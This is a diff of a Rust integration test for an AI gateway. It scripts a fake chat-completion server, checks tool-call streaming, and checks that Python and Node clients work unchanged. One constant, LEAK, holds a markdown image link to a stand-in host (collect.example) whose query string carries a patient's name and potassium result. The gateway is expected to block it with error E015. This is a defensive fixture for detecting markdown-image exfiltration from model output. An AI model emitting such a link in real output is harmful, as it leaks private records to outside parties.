@@ -80,13 +80,18 @@ fn scripted(_: &str, body: &str) -> Vec<Vec<u8>> {
     let asked: Value = serde_json::from_str(body).unwrap();
     let stream = asked["stream"] == true;
     let last = asked["messages"].as_array().unwrap().last().unwrap()["content"].as_str().unwrap().to_owned();
-    let call = |rest: &str| format!(r#"{{"id":"c1","object":"chat.completion.chunk","created":7,"model":"m","choices":[{{"index":0,"delta":{{"tool_calls":[{{"index":0,{rest}}}]}},"finish_reason":null}}]}}"#);
+    let call = |rest: &str| {
+        format!(
+            r#"{{"id":"c1","object":"chat.completion.chunk","created":7,"model":"m","choices":[{{"index":0,"delta":{{"tool_calls":[{{"index":0,{rest}}}]}},"finish_reason":null}}]}}"#
+        )
+    };
     match (last.as_str(), stream) {
         ("call", false) => json(
             r#"{"id":"c1","object":"chat.completion","created":7,"model":"m","choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[{"id":"call_1","type":"function","function":{"name":"labs","arguments":"{\"name\":\"potassium\"}"}}]},"finish_reason":"tool_calls"}]}"#,
         ),
         ("call", true) => {
-            let first = call(r#""id":"call_1","type":"function","function":{"name":"labs","arguments":"{\"na"}"#);
+            let first =
+                call(r#""id":"call_1","type":"function","function":{"name":"labs","arguments":"{\"na"}"#);
             let second = call(r#""function":{"arguments":"me\":\"potassium\"}"}"#);
             events(&[&format!("data: {first}\n\ndata: {second}\n\n"), STOP, DONE])
         }
@@ -97,7 +102,8 @@ fn scripted(_: &str, body: &str) -> Vec<Vec<u8>> {
 }
 
 /// A picture whose address carries the record out, cut in two.
-const LEAK: (&str, &str) = ("![summary](https://collect.example/log?q=", "Ada_Lovelace_potassium_6.1) and rest.");
+const LEAK: (&str, &str) =
+    ("![summary](https://collect.example/log?q=", "Ada_Lovelace_potassium_6.1) and rest.");
 
 /// A gateway with three systems: the tiny model, its vectors, and the scripted server.
 async fn gateway(tiny: &Llama, vectors: &Llama, script: &ModelServer) -> (Talking, Server) {
@@ -113,7 +119,9 @@ async fn gateway(tiny: &Llama, vectors: &Llama, script: &ModelServer) -> (Talkin
 }
 
 fn check(client: &str, found: &Value) {
-    let text = |path: &str| found.pointer(path).and_then(Value::as_str).unwrap_or_else(|| panic!("{client}: {path} in {found}"));
+    let text = |path: &str| {
+        found.pointer(path).and_then(Value::as_str).unwrap_or_else(|| panic!("{client}: {path} in {found}"))
+    };
     assert!(found["models"].as_array().unwrap().iter().any(|m| m == "ward-chat"), "{client}");
     for way in ["chat", "stream", "response", "response_stream"] {
         assert!(text(&format!("/{way}/asepsis/receipt")).parse::<u64>().is_ok(), "{client} {way}");
@@ -124,7 +132,13 @@ fn check(client: &str, found: &Value) {
     assert_eq!(text("/response_stream/last"), "response.completed");
     assert_eq!(found["vectors"], serde_json::json!([64, 64]), "{client}");
     assert_eq!(found["tools"], serde_json::json!({ "name": "labs", "arguments": { "name": "potassium" } }));
-    for (what, code) in [("dies", "E019"), ("leaks", "E015"), ("leaks_whole", "E015"), ("no_key", "E006"), ("no_model", "E004")] {
+    for (what, code) in [
+        ("dies", "E019"),
+        ("leaks", "E015"),
+        ("leaks_whole", "E015"),
+        ("no_key", "E006"),
+        ("no_model", "E004"),
+    ] {
         assert_eq!(text(&format!("/{what}/code")), code, "{client} {what}");
         assert!(!text(&format!("/{what}/message")).contains("Ada"), "{client} {what}");
     }
@@ -133,7 +147,9 @@ fn check(client: &str, found: &Value) {
 #[test]
 fn the_fields_own_clients_work_unchanged() {
     let Some(python) = python() else {
-        eprintln!("SKIPPED the_fields_own_clients_work_unchanged: run scripts/setup_python.sh, or set ASEPSIS_VENV");
+        eprintln!(
+            "SKIPPED the_fields_own_clients_work_unchanged: run scripts/setup_python.sh, or set ASEPSIS_VENV"
+        );
         return;
     };
     let folder = tempfile::tempdir().unwrap();
@@ -171,7 +187,12 @@ fn the_fields_own_clients_work_unchanged() {
         Some(root) => {
             let script = format!("{HERE}/tests/openai_client.mjs");
             let root = root.join("node_modules");
-            let node = Command::new("node").arg(script).args([&base, &talking.key, "scripted"]).arg(root).output().unwrap();
+            let node = Command::new("node")
+                .arg(script)
+                .args([&base, &talking.key, "scripted"])
+                .arg(root)
+                .output()
+                .unwrap();
             assert!(node.status.success(), "{}", String::from_utf8_lossy(&node.stderr));
             check("node", &serde_json::from_slice(&node.stdout).unwrap());
         }
